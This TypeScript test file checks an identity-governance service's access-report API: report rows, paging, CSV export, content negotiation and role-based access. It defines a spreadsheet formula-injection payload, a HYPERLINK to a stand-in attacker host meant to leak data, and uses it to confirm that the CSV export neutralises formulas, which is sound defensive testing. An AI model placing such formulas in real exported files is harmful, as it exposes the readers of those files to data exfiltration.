import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { accessReportCsvHeader } from '../../domain/access-report.js';
import { catalogRoles, directoryRoles } from '../../domain/roles.js';
import { em, giveCatalogRole } from '../../../test/helpers/entitlement-fixtures.js';
import { getRequest, oneStage, packageWithGroup, singleUser, submitted } from '../../../test/helpers/lifecycle-fixtures.js';
import { createTestContext, type TestContext } from '../../../test/helpers/test-app.js';
import { skipReason, testDialect } from '../../../test/helpers/test-database.js';
import { accessReportCsv } from './access-report-csv.js';
import { findReportResource } from './access-reports.repo.js';

const reports = '/v1.0/tessera/accessReports';
const formula = '=HYPERLINK("https://evil.example/?leak","Quarterly figures")';

type History = Awaited<ReturnType<typeof buildHistory>>;

async function resourceOf(t: TestContext, catalogId: string): Promise<string> {
  const response = await t.request(t.admin.token, { method: 'GET', url: `${em}/catalogs/${catalogId}/resources` });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().value[0].id;
}

/**
 * Rita got Sales tools through a one-stage approval (Ann approved, with a reason), was given
 * Finance reports directly by an administrator, and had Old tools until she gave it up. Mia was
 * given Sales tools directly, so the Sales group's resource has two holders.
 */
async function buildHistory(t: TestContext) {
  const ann = await t.addUser({ displayName: 'Ann Approver', userPrincipalName: 'ann@example.com' });
  const rita = await t.addUser({ displayName: 'Rita Requester', userPrincipalName: 'rita@example.com' });
  const sales = await packageWithGroup(t, { requestApprovalSettings: oneStage([singleUser(ann.id)]) }, 'Sales tools');
  const finance = await packageWithGroup(t, {}, 'Finance reports');
  const old = await packageWithGroup(t, {}, 'Old tools');

  const asked = await submitted(t, rita.token, { requestType: 'userAdd', assignment: { accessPackageId: sales.packageId }, justification: formula });
  const approval = await t.request(ann.token, { method: 'GET', url: `${em}/accessPackageAssignmentApprovals/${asked.id}` });
  expect(approval.statusCode, approval.body).toBe(200);
  const decided = await t.request(ann.token, { method: 'PATCH', url: `${em}/accessPackageAssignmentApprovals/${asked.id}/stages/${approval.json().stages[0].id}`, payload: { reviewResult: 'Approve', justification: 'Needed for Q4 forecasting' } });
  expect(decided.statusCode, decided.body).toBe(204);

  const direct = await submitted(t, t.admin.token, { requestType: 'adminAdd', assignment: { accessPackageId: finance.packageId, targetId: rita.id, assignmentPolicyId: finance.policyId }, justification: 'Month-end close' });
  const oldAsk = await submitted(t, rita.token, { requestType: 'userAdd', assignment: { accessPackageId: old.packageId }, justification: 'Migration' });
  const miaDirect = await submitted(t, t.admin.token, { requestType: 'adminAdd', assignment: { accessPackageId: sales.packageId, targetId: t.member.id, assignmentPolicyId: sales.policyId } });
  await t.jobs.drain();

  t.clock.advance(3600_000);
  const oldAssignmentId = (await getRequest(t, oldAsk.id)).assignment.id;
  const removal = await submitted(t, rita.token, { requestType: 'userRemove', assignment: { id: oldAssignmentId }, justification: 'No longer needed' });
  await t.jobs.drain();
  expect((await getRequest(t, removal.id)).state).toBe('delivered');

  return {
    ann,
    rita,
    sales: { ...sales, resourceId: await resourceOf(t, sales.catalogId), requestId: asked.id },
    finance: { ...finance, resourceId: await resourceOf(t, finance.catalogId), requestId: direct.id },
    old: { ...old, requestId: oldAsk.id, removalId: removal.id, assignmentId: oldAssignmentId },
    miaRequestId: miaDirect.id,
  };
}

const get = (t: TestContext, token: string, url: string, headers: Record<string, string> = {}) => t.request(token, { method: 'GET', url, headers });

describe.skipIf(skipReason())(`access reports (${testDialect})`, () => {
  let t: TestContext;
  let h: History;
  beforeEach(async () => {
    t = await createTestContext();
    h = await buildHistory(t);
  });
  afterEach(async () => t.close());

  it("explains a user's access: the request, its approval, the policy and the delivery", async () => {
    const response = await get(t, t.admin.token, `${reports}/users/${h.rita.id}`);
    expect(response.statusCode, response.body).toBe(200);
    const body = response.json();
    expect(body['@odata.context']).toBe('http://tessera.test/v1.0/$metadata#Collection(tessera.accessReportRow)');
    expect(body['@odata.nextLink']).toBeUndefined();
    expect(body.value.map((row: any) => row.accessPackage.displayName)).toEqual(['Sales tools', 'Finance reports']);

    const [sales, finance] = body.value;
    expect(sales).toMatchObject({
      user: { id: h.rita.id, displayName: 'Rita Requester', userPrincipalName: 'rita@example.com' },
      resource: { id: h.sales.resourceId, displayName: 'Sales tools group', originSystem: 'AadGroup', originId: h.sales.group.id },
      role: { originId: `Member_${h.sales.group.id}`, displayName: expect.any(String) },
      accessPackage: { id: h.sales.packageId },
      catalog: { id: h.sales.catalogId, displayName: 'Sales tools catalog' },
      assignment: { state: 'delivered', status: 'Delivered', endDateTime: null, expiredDateTime: null },
      grant: { state: 'granted', grantedDateTime: expect.any(String), revokedDateTime: null },
      policy: { id: h.sales.policyId, displayName: 'Members may ask' },
      request: {
        id: h.sales.requestId,
        requestType: 'userAdd',
        requestor: { id: h.rita.id, displayName: 'Rita Requester', userPrincipalName: 'rita@example.com' },
        justification: formula,
        approvals: [{ stageNumber: 1, reviewResult: 'Approved', reviewedBy: { id: h.ann.id, displayName: 'Ann Approver' }, reviewedDateTime: expect.any(String), justification: 'Needed for Q4 forecasting' }],
      },
      removalRequest: null,
    });
    expect(finance).toMatchObject({
      accessPackage: { id: h.finance.packageId },
      request: { id: h.finance.requestId, requestType: 'adminAdd', requestor: { id: t.admin.id, displayName: 'Ada Admin' }, justification: 'Month-end close', approvals: [] },
      grant: { state: 'granted' },
    });
  });

  it('shows ended access only with state=all, with the request that ended it', async () => {
    const response = await get(t, t.admin.token, `${reports}/users/${h.rita.id}?state=all`);
    expect(response.statusCode, response.body).toBe(200);
    const rows = response.json().value;
    expect(rows.map((row: any) => row.accessPackage.displayName)).toEqual(['Sales tools', 'Finance reports', 'Old tools']);
    expect(rows[2]).toMatchObject({
      assignment: { id: h.old.assignmentId, state: 'expired', status: 'Removed', expiredDateTime: expect.any(String), endedReason: 'Removed by a userRemove request' },
      grant: { state: 'revoked', revokedDateTime: expect.any(String) },
      request: { id: h.old.requestId, requestType: 'userAdd', justification: 'Migration' },
      removalRequest: { id: h.old.removalId, requestType: 'userRemove', requestor: { id: h.rita.id }, justification: 'No longer needed' },
    });
  });

  it("lists everyone holding a resource's roles, and pages with $top and @odata.nextLink", async () => {
    const all = await get(t, t.admin.token, `${reports}/resources/${h.sales.resourceId}`);
    expect(all.statusCode, all.body).toBe(200);
    expect(all.json().value.map((row: any) => row.user.id).sort()).toEqual([h.rita.id, t.member.id].sort());
    expect(all.json().value.find((row: any) => row.user.id === t.member.id).request).toMatchObject({ id: h.miaRequestId, requestType: 'adminAdd', approvals: [] });

    const seen: string[] = [];
    let url: string | undefined = `${reports}/resources/${h.sales.resourceId}?$top=1`;
    while (url) {
      const page = await get(t, t.admin.token, url);
      expect(page.statusCode, page.body).toBe(200);
      expect(page.json().value.length).toBeLessThanOrEqual(1);
      seen.push(...page.json().value.map((row: any) => row.id));
      const next: string | undefined = page.json()['@odata.nextLink'];
      url = next ? next.replace('http://tessera.test', '') : undefined;
    }
    expect(seen).toEqual(all.json().value.map((row: any) => row.id));
  });

  it("pages a user's history and refuses a token from another report or a forged one", async () => {
    const first = await get(t, t.admin.token, `${reports}/users/${h.rita.id}?state=all&$top=2`);
    expect(first.json().value).toHaveLength(2);
    const next = new URL(first.json()['@odata.nextLink']);
    expect(next.searchParams.get('state')).toBe('all');
    const second = await get(t, t.admin.token, next.pathname + next.search);
    expect(second.json().value.map((row: any) => row.accessPackage.displayName)).toEqual(['Old tools']);
    expect(second.json()['@odata.nextLink']).toBeUndefined();

    const token = next.searchParams.get('$skiptoken')!;
    for (const url of [`${reports}/users/${h.rita.id}?$skiptoken=${token}`, `${reports}/resources/${h.sales.resourceId}?$skiptoken=${token}`, `${reports}/users/${h.rita.id}?state=all&$skiptoken=bm9wZQ`]) {
      const refused = await get(t, t.admin.token, url);
      expect(refused.statusCode, url).toBe(400);
      expect(refused.json().error).toMatchObject({ code: 'Request_BadRequest', target: '$skiptoken' });
    }
  });

  it('exports CSV with Accept: text/csv or $format=csv: a header, every row, formulas neutralised', async () => {
    const response = await get(t, t.admin.token, `${reports}/users/${h.rita.id}`, { accept: 'text/csv' });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="access-report-user-${h.rita.id}-2026-11-26.csv"`);
    const [header, ...records] = parse(response.body) as string[][];
    expect(header).toEqual(accessReportCsvHeader);
    expect(records).toHaveLength(2);
    const cell = (record: string[], name: string) => record[accessReportCsvHeader.indexOf(name)];
    const sales = records.find((record) => cell(record, 'accessPackage.displayName') === 'Sales tools')!;
    expect(cell(sales, 'request.justification')).toBe(`'${formula}`);
    expect(cell(sales, 'request.approvals')).toMatch(/^stage 1: Approved by Ann Approver \(2026-11-26T[\d:.]+Z\): Needed for Q4 forecasting$/);
    expect(cell(sales, 'user.userPrincipalName')).toBe('rita@example.com');
    // The raw text never reaches a cell unescaped: no line of the file starts a cell with it.
    expect(response.body).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const history = await get(t, t.admin.token, `${reports}/users/${h.rita.id}?state=all&$format=csv`);
    expect(history.statusCode, history.body).toBe(200);
    const historyRecords = (parse(history.body) as string[][]).slice(1);
    expect(historyRecords.map((record) => cell(record, 'grant.state'))).toEqual(['granted', 'granted', 'revoked']);
    expect(cell(historyRecords[2]!, 'removalRequest.justification')).toBe('No longer needed');

    const resource = await get(t, t.admin.token, `${reports}/resources/${h.sales.resourceId}?$format=csv`);
    expect(resource.headers['content-disposition']).toBe(`attachment; filename="access-report-resource-${h.sales.resourceId}-2026-11-26.csv"`);
    expect((parse(resource.body) as string[][]).slice(1).map((record) => cell(record, 'user.id')).sort()).toEqual([h.rita.id, t.member.id].sort());
  });

  it('answers JSON unless CSV is preferred', async () => {
    for (const accept of ['*/*', 'application/json', 'application/json, text/csv', 'text/csv;q=0.5, application/json']) {
      const response = await get(t, t.admin.token, `${reports}/users/${h.rita.id}`, { accept });
      expect(response.headers['content-type'], accept).toMatch(/^application\/json/);
    }
    const csv = await get(t, t.admin.token, `${reports}/users/${h.rita.id}`, { accept: 'text/csv, */*;q=0.8' });
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const json = await get(t, t.admin.token, `${reports}/users/${h.rita.id}?$format=json`, { accept: 'text/csv' });
    expect(json.headers['content-type']).toMatch(/^application\/json/);
  });

  it('writes the CSV in chunks that join into the whole report', async () => {
    const resource = (await findReportResource(t.handle.db, h.sales.resourceId))!;
    for (const subject of [{ kind: 'user', userId: h.rita.id } as const, { kind: 'resource', resource } as const]) {
      const whole: string[] = [];
      for await (const chunk of accessReportCsv(t.handle.db, subject, { state: 'all', catalogIds: 'all' })) whole.push(chunk);
      const chunked: string[] = [];
      for await (const chunk of accessReportCsv(t.handle.db, subject, { state: 'all', catalogIds: 'all' }, 1)) chunked.push(chunk);
      expect(chunked.length).toBeGreaterThan(whole.length);
      expect(chunked.join('')).toBe(whole.join(''));
    }
  });

  it('lets a user read their own report, and refuses someone else’s with 403', async () => {
    const own = await get(t, h.rita.token, `${reports}/users/${h.rita.id}`);
    expect(own.statusCode, own.body).toBe(200);
    expect(own.json().value).toHaveLength(2);
    const byName = await get(t, h.rita.token, `${reports}/users/rita@example.com?$format=csv`);
    expect(byName.statusCode, byName.body).toBe(200);

    const other = await get(t, t.member.token, `${reports}/users/${h.rita.id}`);
    expect(other.statusCode, other.body).toBe(403);
    expect(other.json().error.code).toBe('Authorization_RequestDenied');
    const otherCsv = await get(t, t.member.token, `${reports}/users/${h.rita.id}`, { accept: 'text/csv' });
    expect(otherCsv.statusCode).toBe(403);
    // Approving someone's request gives no right to their report.
    expect((await get(t, h.ann.token, `${reports}/users/${h.rita.id}`)).statusCode).toBe(403);
  });

  it('lets governance readers read any report', async () => {
    for (const role of [directoryRoles.globalReader.id, directoryRoles.identityGovernanceAdministrator.id]) {
      const reader = await t.addUser({}, [role]);
      expect((await get(t, reader.token, `${reports}/users/${h.rita.id}?state=all`)).json().value).toHaveLength(3);
      expect((await get(t, reader.token, `${reports}/resources/${h.finance.resourceId}`)).json().value).toHaveLength(1);
    }
    const userAdmin = await t.addUser({}, [directoryRoles.userAdministrator.id]);
    expect((await get(t, userAdmin.token, `${reports}/users/${h.rita.id}`)).statusCode).toBe(403);
    expect((await get(t, userAdmin.token, `${reports}/resources/${h.finance.resourceId}`)).statusCode).toBe(404);
  });

  it("gives catalog roles their catalog's resources, and a user's report cut down to their catalogs", async () => {
    const salesReader = await t.addUser({ displayName: 'Sam Sales Reader' });
    await giveCatalogRole(t, catalogRoles.catalogReader.id, salesReader.id, h.sales.catalogId);
    const financeManager = await t.addUser({ displayName: 'Fay Finance' });
    await giveCatalogRole(t, catalogRoles.accessPackageAssignmentManager.id, financeManager.id, h.finance.catalogId);

    const cutDown = await get(t, salesReader.token, `${reports}/users/${h.rita.id}?state=all`);
    expect(cutDown.statusCode, cutDown.body).toBe(200);
    expect(cutDown.json().value.map((row: any) => row.catalog.id)).toEqual([h.sales.catalogId]);
    const cutDownCsv = await get(t, salesReader.token, `${reports}/users/${h.rita.id}?state=all&$format=csv`);
    expect(parse(cutDownCsv.body)).toHaveLength(2);

    expect((await get(t, salesReader.token, `${reports}/resources/${h.sales.resourceId}`)).json().value).toHaveLength(2);
    expect((await get(t, financeManager.token, `${reports}/resources/${h.finance.resourceId}`)).json().value).toHaveLength(1);

    for (const [token, url] of [
      [salesReader.token, `${reports}/resources/${h.finance.resourceId}`],
      [financeManager.token, `${reports}/resources/${h.sales.resourceId}`],
      [financeManager.token, `${reports}/resources/${h.sales.resourceId}?$format=csv`],
      [t.member.token, `${reports}/resources/${h.sales.resourceId}`],
    ] as const) {
      const hidden = await get(t, token, url);
      expect(hidden.statusCode, url).toBe(404);
      expect(hidden.json().error.code).toBe('Request_ResourceNotFound');
    }
  });

  it('answers 404 for unknown users and resources', async () => {
    for (const url of [`${reports}/users/00000000-0000-4000-8000-000000000000`, `${reports}/users/nobody@example.com`, `${reports}/resources/00000000-0000-4000-8000-000000000000`]) {
      const response = await get(t, t.admin.token, url);
      expect(response.statusCode, url).toBe(404);
      expect(response.json().error.code).toBe('Request_ResourceNotFound');
    }
    expect((await get(t, t.member.token, `${reports}/resources/00000000-0000-4000-8000-000000000000`)).statusCode).toBe(404);
  });

  it('refuses options it does not support with a 400 naming the option', async () => {
    const cases: [string, string][] = [
      ['state=expired', 'state'],
      ['$filter=user/id eq \'x\'', '$filter'],
      ['$top=0', '$top'],
      ['$top=1000', '$top'],
      ['$format=xml', '$format'],
      ['$format=csv&$top=5', '$top'],
      ['state=all&state=active', 'state'],
    ];
    for (const [query, target] of cases) {
      const response = await get(t, t.admin.token, `${reports}/users/${h.rita.id}?${query}`);
      expect(response.statusCode, query).toBe(400);
      expect(response.json().error.target, query).toBe(target);
    }
  });
});

describe.skipIf(skipReason())(`access reports of expired access (${testDialect})`, () => {
  let t: TestContext;
  beforeEach(async () => {
    t = await createTestContext();
  });
  afterEach(async () => t.close());

  it('shows access that ran out at the end of its schedule, with no removal request', async () => {
    const pack = await packageWithGroup(t, { expiration: { type: 'afterDuration', duration: 'P1D' } }, 'Day pass');
    const created = await submitted(t, t.member.token, { requestType: 'userAdd', assignment: { accessPackageId: pack.packageId } });
    await t.jobs.drain();
    expect((await get(t, t.member.token, `${reports}/users/${t.member.id}`)).json().value[0].assignment.endDateTime).toBe('2026-11-27T09:00:00.000Z');

    t.clock.advance(2 * 24 * 3600_000);
    await t.jobs.drain();
    expect((await get(t, t.member.token, `${reports}/users/${t.member.id}`)).json().value).toEqual([]);
    const [row] = (await get(t, t.member.token, `${reports}/users/${t.member.id}?state=all`)).json().value;
    expect(row).toMatchObject({
      assignment: { state: 'expired', status: 'Expired', endedReason: 'Expired at the end of its schedule', expiredDateTime: expect.any(String) },
      grant: { state: 'revoked' },
      request: { id: created.id, requestType: 'userAdd', approvals: [] },
      removalRequest: null,
    });
  });
});
